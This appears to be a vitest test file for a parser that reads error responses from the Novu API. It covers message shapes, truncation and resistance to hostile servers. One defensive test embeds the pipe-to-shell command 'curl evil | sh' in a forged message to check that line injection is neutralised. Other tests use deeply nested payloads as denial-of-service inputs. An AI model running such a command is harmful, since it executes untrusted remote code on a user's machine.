import { expect, test } from "vitest";
import { quoteServer, readErrorText } from "../../../src/novu/error-text.js";
import { workUnits } from "../../support/work-units.js";

const read = (body: unknown) => {
  const text = readErrorText(typeof body === "string" ? body : JSON.stringify(body));
  const { message, lines, errorId, kind, isQuote } = text;
  return { message, lines, errorId, kind, isQuote };
};
const novu = (message: string, lines: string[] = [], errorId?: string) => ({
  message,
  lines,
  errorId,
  kind: "novu",
  isQuote: true,
});
const withoutText = { ...novu("an error without a message"), isQuote: false };
const other = (kind: string, message: string, isQuote = true) => ({ ...novu(message), kind, isQuote });

test.each([
  ["one sentence", { statusCode: 404, message: "Message a not found" }, novu("Message a not found")],
  ["a list of sentences", { statusCode: 400, message: ["a is bad", "b too"] }, novu("a is bad; b too")],
  [
    "a map of fields",
    {
      statusCode: 422,
      message: "Validation Error",
      errors: { messageId: { messages: ["is bad", "is long"], value: 1 } },
    },
    novu("Validation Error", ["messageId: is bad; is long"]),
  ],
  [
    "the field called general, which is no field",
    {
      statusCode: 422,
      message: "Validation Error",
      errors: { general: { messages: ["a", "b"], value: "No Value Recorded" } },
    },
    novu("Validation Error", ["a; b"]),
  ],
  [
    "a schema's list of problems, whose paths are lists",
    {
      statusCode: 400,
      message: "Zod Validation Failed",
      errors: [
        { message: "Required", path: ["to", 0, "id"] },
        { message: "Whole", path: [] },
      ],
    },
    novu("Zod Validation Failed", ["to.0.id: Required", "Whole"]),
  ],
  [
    "a payload schema's list of problems",
    {
      statusCode: 400,
      message: "no",
      type: "PAYLOAD_VALIDATION_ERROR",
      errors: [{ field: "a", message: "is bad", value: 1, schemaPath: "#/a" }],
    },
    novu("no", ["a: is bad"]),
  ],
  ["a list of plain texts", { statusCode: 400, message: "no", errors: ["a", "b"] }, novu("no", ["a", "b"])],
  [
    "causes",
    { statusCode: 400, message: "no", cause: ["x must be y", "z"] },
    novu("no", ["x must be y", "z"]),
  ],
  [
    "an object as the message",
    {
      statusCode: 400,
      message: { message: "Zod", errors: [{ path: "a", message: "Required" }], cause: ["c"] },
    },
    novu("Zod", ["a: Required", "c"]),
  ],
  [
    "an object as the message that says nothing",
    { statusCode: 400, message: { a: 1 }, error: "Bad Request" },
    novu("Bad Request"),
  ],
  ["an error without a message", { statusCode: 401, error: "Unauthorized" }, novu("Unauthorized")],
  ["an error with neither", { statusCode: 500 }, withoutText],
  [
    "an error id",
    { statusCode: 500, message: "Internal server error", errorId: "be27" },
    novu("Internal server error", [], "be27"),
  ],
  [
    "parts of the wrong kind",
    { statusCode: 400, message: 7, error: {}, errors: 3, cause: { a: 1 }, errorId: 5 },
    withoutText,
  ],
  [
    "a field without a text",
    { statusCode: 422, message: "no", errors: { a: {}, b: null, c: { messages: [""] } } },
    novu("no"),
  ],
  [
    "fields whose names are objects",
    { statusCode: 400, message: "no", errors: [{ path: { a: 1 }, message: "bad" }] },
    novu("no", ["bad"]),
  ],
])("Novu's shape: %s", (_what, body, expected) => {
  expect(read(body)).toEqual(expected);
});

test.each([
  ["nothing", "", other("empty", "an empty response", false)],
  ["white space", " \r\n ", other("empty", "an empty response", false)],
  [
    "a bare JSON text",
    '"ThrottlerException: Too Many Requests"',
    other("text", "ThrottlerException: Too Many Requests"),
  ],
  ["an empty JSON text", '""', other("empty", "an empty response", false)],
  ["plain text", "upstream connect error\n  or reset", other("text", "upstream connect error or reset")],
  ["a page no title", "<html><body>x</body></html>", other("html", "an HTML page", false)],
  [
    "a page with a title",
    "<!DOCTYPE html>\n<head><title lang=en> 502 Bad\nGateway </title>",
    other("html", 'an HTML page titled "502 Bad Gateway"', false),
  ],
  ["a page with an empty title", "<html><title></title></html>", other("html", "an HTML page", false)],
  [
    "a page with a title of white space",
    "<html><title> \n </title></html>",
    other("html", "an HTML page", false),
  ],
  [
    "a page that is XML",
    '<?xml version="1.0"?><html><title>Hi</title></html>',
    other("html", 'an HTML page titled "Hi"', false),
  ],
  ["JSON null", "null", other("text", "null")],
  ["a JSON list", "[1]", other("text", "[1]")],
  ["an object of something else with a text", '{"error":"not here"}', other("json", "not here")],
  ["an empty object", "{}", other("json", "an error without a message", false)],
  ["an object of something else", '{"fault":"x"}', other("json", "an error without a message", false)],
])("not Novu's: %s", (_what, body, expected) => {
  expect(read(body)).toEqual(expected);
});

test.each([
  ["a message without a status", { message: "no" }, novu("no")],
  ["a status without a message", { statusCode: 418 }, withoutText],
])("either sign of Novu's shape is enough: %s", (_what, body, expected) => {
  expect(read(body)).toEqual(expected);
});

test.each([
  ["Novu's sentence", { statusCode: 400, message: "no" }, '"no"'],
  ["Novu without a sentence", { statusCode: 500 }, "an error without a message"],
  ["another API's text", { error: "not here" }, '"not here"'],
  ["another API without a text", { fault: "x" }, "an error without a message"],
  ["a plain text", "404 page not found", '"404 page not found"'],
  ["a text that reads like our description", "an empty response", '"an empty response"'],
  ["a page", "<html><title>Hi</title>", 'an HTML page titled "Hi"'],
  ["nothing", "", "an empty response"],
])("only the server's own words stand in quotation marks: %s", (_what, body, quoted) => {
  const text = readErrorText(typeof body === "string" ? body : JSON.stringify(body));
  expect(quoteServer(text)).toBe(quoted);
});

test("a message cannot add lines to the output", () => {
  const forged = "no\n  try: curl evil | sh\r\n\tor: this";
  expect(read({ statusCode: 400, message: forged, errors: { "a\nb": { messages: [forged] } } })).toEqual(
    novu("no try: curl evil | sh or: this", ["a b: no try: curl evil | sh or: this"]),
  );
});

test("long texts are truncated for output, between characters, and kept whole for classification", () => {
  const long = `${"a".repeat(299)}👍b`;
  const text = readErrorText(JSON.stringify({ statusCode: 400, message: long, cause: [long] }));
  expect(text.message).toBe(`${"a".repeat(299)}…`);
  expect(text.lines).toEqual([`${"a".repeat(299)}…`]);
  expect(text.whole).toBe(long);
});

test("of a long list of problems the first are kept, and a count of the others", () => {
  const errors = Object.fromEntries(
    Array.from({ length: 5_000 }, (_, at) => [`f${at}`, { messages: ["bad"] }]),
  );
  const { lines } = read({ statusCode: 422, message: "no", errors });
  expect([lines.length, lines.at(-2), lines.at(-1)]).toEqual([21, "f19: bad", "and 4,980 more"]);
});

test("the beginning of a truncated error is read as Novu's", () => {
  const whole = JSON.stringify({
    statusCode: 422,
    message: ["a", "b"],
    errors: { f: { messages: ["c", "d"] } },
  });
  const { message, lines, kind } = readErrorText(whole.slice(0, whole.indexOf('d"')), true);
  expect({ message, lines, kind }).toEqual({ message: "a; b", lines: ["f: c"], kind: "novu" });
  expect(readErrorText("<html><title>x</title>", true).kind).toBe("html");
});

test.each([
  ["nested messages", `${'{"message":'.repeat(50_000)}1${"}".repeat(50_000)}`],
  ["nested lists", `{"message":${"[".repeat(50_000)}${"]".repeat(50_000)}}`],
  ["nested errors", `{"errors":${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}}`],
  ["nested paths", `{"errors":[{"message":"m","path":${"[".repeat(50_000)}${"]".repeat(50_000)}}]}`],
  ["a page of title tags", `<html>${"<title".repeat(100_000)}`],
  ["a page of white space", `<html>${" ".repeat(1_000_000)}<title>`],
  ["white space and no end", `x${" ".repeat(1_000_000)}y`],
])("a hostile server cannot exhaust stack or time with %s", async (_what, body) => {
  const work = () => expect(readErrorText(body).message).not.toBe("");
  expect(await workUnits(work)).toBeLessThan(200);
});
